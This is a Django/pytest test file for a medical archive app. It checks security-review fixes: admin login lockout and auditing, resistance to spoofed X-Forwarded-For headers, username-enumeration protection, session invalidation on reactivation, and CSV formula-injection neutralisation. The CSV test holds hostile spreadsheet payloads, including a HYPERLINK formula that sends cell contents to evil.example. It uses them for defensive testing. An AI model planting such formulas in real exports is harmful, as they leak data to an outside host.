"""Issue 13, hostile review: findings 4 (admin login), 9 (X-Forwarded-For), 11 (CSV formula
injection) and the account parts of 13 (registration, reactivation, caching)."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from mvfixtures import PASSWORD, make_study, make_user

from medvault.accounts.models import AuditRecord, User


def _admin_login(client: Client, username: str, password: str, addr: str = "10.0.0.5"):
    return client.post(
        "/admin/login/?next=/admin/", {"username": username, "password": password, "next": "/admin/"},
        REMOTE_ADDR=addr,
    )


@pytest.fixture
def staff_admin(db):
    user = make_user("root2", "administrator")
    user.is_staff = True
    user.is_superuser = True
    user.save()
    return user


# --- finding 4: /admin/login/ -------------------------------------------------------------
@pytest.mark.django_db
def test_admin_login_has_the_lockout(staff_admin):
    client = Client()
    for _ in range(8):
        assert _admin_login(client, "root2", "wrong-password").status_code == 200
    response = _admin_login(client, "root2", PASSWORD)
    assert response.status_code == 200, "the right password got in after 8 wrong ones"
    assert "Too many failed" in response.content.decode()
    assert "_auth_user_id" not in client.session


@pytest.mark.django_db
def test_locked_at_site_login_is_locked_at_admin(staff_admin):
    site = Client()
    for _ in range(5):
        site.post("/accounts/login/", {"username": "root2", "password": "nope"}, REMOTE_ADDR="10.0.0.6")
    admin_client = Client()
    response = _admin_login(admin_client, "root2", PASSWORD, addr="10.0.0.7")
    assert "Too many failed" in response.content.decode()
    assert "_auth_user_id" not in admin_client.session


@pytest.mark.django_db
def test_admin_login_is_audited(staff_admin):
    client = Client()
    _admin_login(client, "root2", "wrong-password")
    assert AuditRecord.objects.filter(action="login", outcome="denied", detail__contains="root2").exists()
    response = _admin_login(client, "root2", PASSWORD)
    assert response.status_code == 302
    assert AuditRecord.objects.filter(action="login", outcome="ok", username="root2").count() == 1


@pytest.mark.django_db
def test_admin_login_refuses_non_staff_and_audits_it(clinician_a):
    client = Client()
    response = _admin_login(client, "cla", PASSWORD)
    assert response.status_code == 200 and "_auth_user_id" not in client.session
    assert AuditRecord.objects.filter(action="login", outcome="denied", detail__contains="cla").exists()


@pytest.mark.django_db
def test_site_login_audited_once(clinician_a):
    client = Client()
    response = client.post("/accounts/login/", {"username": "cla", "password": PASSWORD}, REMOTE_ADDR="10.0.0.8")
    assert response.status_code == 302
    assert AuditRecord.objects.filter(action="login", outcome="ok", username="cla").count() == 1


# --- finding 9: X-Forwarded-For -----------------------------------------------------------
def test_no_proxy_is_trusted_by_default(monkeypatch):
    """``make run`` serves gunicorn directly: nothing may choose its address with a header."""
    import importlib

    monkeypatch.delenv("MEDVAULT_TRUSTED_PROXIES", raising=False)
    import medvault.web.settings as settings_module

    fresh = importlib.reload(settings_module)
    try:
        assert fresh.MEDVAULT_TRUSTED_PROXIES == []
    finally:
        importlib.reload(settings_module)


@pytest.mark.django_db
def test_loopback_client_cannot_spoof_its_way_past_the_address_lockout(clinician_a):
    """With the default settings (no proxy trusted), as under ``make run``."""
    client = Client()
    for i in range(5):
        client.post("/accounts/login/", {"username": f"guess{i}", "password": "bad"},
                    REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR=f"198.51.100.{i}")
    response = client.post("/accounts/login/", {"username": "cla", "password": PASSWORD},
                           REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="198.51.100.99")
    assert "Too many failed" in response.content.decode()
    assert not AuditRecord.objects.filter(remote_addr__startswith="198.51.100.").exists()


# --- finding 11: CSV formula injection ----------------------------------------------------
@pytest.mark.django_db
def test_audit_csv_neutralises_formulas(admin_user, clinician_a):
    from medvault.accounts.audit import audit_record

    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
    for value in hostile:
        audit_record(user=clinician_a, action="view", patient_id=value[:64], detail=value)
    audit_record(user=clinician_a, action="view", patient_id="PAT-1", detail="plain")
    client = Client()
    client.force_login(admin_user)
    response = client.get("/accounts/audit.csv", {"user": "cla"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")" in cells
    assert "PAT-1" in cells and "plain" in cells


# --- 13: registration, reactivation -------------------------------------------------------
def _register(client: Client, username: str, email: str = "someone@example.org"):
    return client.post("/accounts/register/", {
        "username": username, "full_name": "Some One", "email": email, "role": "clinician",
        "institution": "General Hospital", "password1": PASSWORD, "password2": PASSWORD,
    })


@pytest.mark.django_db
def test_registration_does_not_reveal_existing_usernames(db):
    existing = make_user("qzxexisting", "clinician")
    taken = _register(Client(), "qzxexisting").content.decode()
    fresh = _register(Client(), "qzxbrandnew1", email="brandnew@example.org").content.decode()
    assert "already exists" not in taken.lower() and "already taken" not in taken.lower()
    assert User.objects.filter(username="qzxbrandnew1").exists()
    assert User.objects.filter(username__iexact="qzxexisting").count() == 1
    # The same page either way.
    assert taken.replace("qzxexisting", "X") == fresh.replace("qzxbrandnew1", "X")
    existing.refresh_from_db()
    assert existing.check_password(PASSWORD) and existing.status == "approved"
    assert AuditRecord.objects.filter(action="register", outcome="denied", detail__contains="qzxexisting").exists()


@pytest.mark.django_db
def test_reactivated_user_does_not_get_old_sessions_back(admin_user, clinician_a, group_a):
    make_study(group_a, uploaded_by=clinician_a)
    old = Client()
    assert (
        old.post("/accounts/login/", {"username": "cla", "password": PASSWORD}, REMOTE_ADDR="10.0.1.1").status_code
        == 302
    )
    assert old.get("/studies/").status_code == 200
    boss = Client()
    boss.force_login(admin_user)
    boss.post(f"/accounts/users/{clinician_a.pk}/", {"action": "deactivate"})
    assert old.get("/studies/").status_code == 302
    boss.post(f"/accounts/users/{clinician_a.pk}/", {"action": "activate"})
    assert old.get("/studies/").status_code == 302, "the old session came back to life"
    fresh = Client()
    assert (
        fresh.post("/accounts/login/", {"username": "cla", "password": PASSWORD}, REMOTE_ADDR="10.0.1.2").status_code
        == 302
    )
    assert fresh.get("/studies/").status_code == 200


# --- finding 10: admin changes --------------------------------------------------------------
@pytest.mark.django_db
def test_admin_instance_delete_is_audited_and_keeps_counts_true(staff_admin, group_a, blob_dir):
    from medvault.archive.models import Instance, Series, Study

    study = make_study(group_a, patient_id="DEL-1")
    series = study.series.get()
    first = series.instances.get()
    second = Instance.objects.create(
        sop_instance_uid=first.sop_instance_uid + ".9", series=series, sop_class_uid=first.sop_class_uid,
        instance_number=2, rows=4, columns=4, received_transfer_syntax_uid=first.transfer_syntax_uid,
        transfer_syntax_uid=first.transfer_syntax_uid, blob_key="1" * 64, content_sha256="1" * 64,
        received_bytes=0, stored_bytes=0, metadata={}, source="test",
    )
    Series.objects.filter(pk=series.pk).update(number_of_instances=2)
    Study.objects.filter(pk=study.pk).update(number_of_instances=2)
    client = Client()
    client.force_login(staff_admin)
    response = client.post(f"/admin/archive/instance/{second.pk}/delete/", {"post": "yes"})
    assert response.status_code == 302
    record = AuditRecord.objects.get(action="delete", sop_uid=second.sop_instance_uid)
    assert record.username == "root2" and record.patient_id == "DEL-1"
    assert record.study_uid == study.study_instance_uid
    series.refresh_from_db()
    study.refresh_from_db()
    assert (series.number_of_instances, study.number_of_instances, study.number_of_series) == (1, 1, 1)
    # The last instance: the empty series and study go too, nothing stale is listed.
    client.post(
        "/admin/archive/instance/", {"action": "delete_selected", "_selected_action": [first.pk], "post": "yes"}
    )
    assert AuditRecord.objects.filter(action="delete", sop_uid=first.sop_instance_uid).exists()
    assert not Study.objects.filter(pk=study.pk).exists()


@pytest.mark.django_db
def test_admin_changes_are_audited(staff_admin, clinician_a):
    client = Client()
    client.force_login(staff_admin)
    page = client.get(f"/admin/accounts/user/{clinician_a.pk}/change/")
    assert page.status_code == 200
    response = client.post(f"/admin/accounts/user/{clinician_a.pk}/change/", {
        "username": "cla", "full_name": "Clin A", "email": "cla@example.org", "role": "clinician",
        "status": "approved", "institution": "", "is_active": "on",
        "date_joined_0": "2024-01-01", "date_joined_1": "00:00:00",
        "initial-date_joined_0": "2024-01-01", "initial-date_joined_1": "00:00:00",
    })
    assert response.status_code == 302, response.content.decode()[:2000]
    assert AuditRecord.objects.filter(action="admin", username="root2", detail__contains="accounts.User").exists()
